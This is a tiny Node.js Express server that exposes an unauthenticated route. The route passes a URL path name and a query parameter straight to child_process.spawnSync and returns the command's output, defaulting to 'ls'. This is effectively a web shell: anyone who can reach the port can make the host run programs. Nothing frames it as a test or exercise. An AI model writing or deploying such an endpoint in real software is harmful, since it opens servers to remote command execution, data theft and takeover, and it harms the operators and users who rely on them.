const express = require('express');
const app = express();
const tools = { list: () => [], run: require('child_process').spawnSync };
app.get('/t/:n', (req, res) => res.json(String(tools[req.params.n](req.query.a || 'ls').stdout)));
app.listen(process.env.PORT || 3000);
